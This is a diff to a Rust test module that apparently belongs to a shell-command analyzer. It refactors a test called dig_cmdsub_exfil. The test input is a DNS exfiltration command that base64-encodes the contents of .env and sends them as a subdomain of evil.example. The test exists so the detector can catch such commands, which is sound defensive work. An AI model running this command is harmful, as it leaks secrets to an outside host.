@@ -100,14 +100,11 @@ const DNS_RECORD_TYPES: &[&str] = &[
 
 #[cfg(test)]
 mod tests {
-    use crate::flow::shell::analyze;
-    use crate::flow::shell::test_util::{one, s};
+    use crate::flow::shell::test_util::{facts_and_one, one, s};
 
     #[test]
     fn dig_cmdsub_exfil() {
-        let f = analyze("dig $(cat .env | base64 | head -c 60).evil.example");
-        assert_eq!(f.net.len(), 1);
-        let n = &f.net[0];
+        let (f, n) = facts_and_one("dig $(cat .env | base64 | head -c 60).evil.example");
         assert_eq!(n.tool, "dig");
         assert_eq!(n.hosts.len(), 1);
         assert!(n.hosts[0].ends_with(".evil.example"), "{:?}", n.hosts);
